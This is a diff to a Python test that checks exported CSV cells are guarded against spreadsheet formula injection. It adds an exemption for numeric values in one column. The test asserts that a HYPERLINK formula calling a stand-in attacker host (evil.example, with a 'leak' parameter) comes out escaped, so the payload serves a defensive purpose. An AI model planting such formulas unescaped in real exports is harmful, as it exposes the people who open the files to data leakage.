@@ -122,6 +122,9 @@ def test_every_csv_guards_the_hostile_release(hostile_out: Path) -> None:
         for row in read_csv(hostile_out / f"{name}.csv"):
             for column, cell in row.items():
                 texts.append((name, column, cell))
+                if (name, column) == ("numbers", "value") and cell:
+                    float(cell)  # a negative value (-2) is a number, left as one by contract
+                    continue
                 assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
     cells = {cell for _, _, cell in texts}
     assert "'=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection" in (
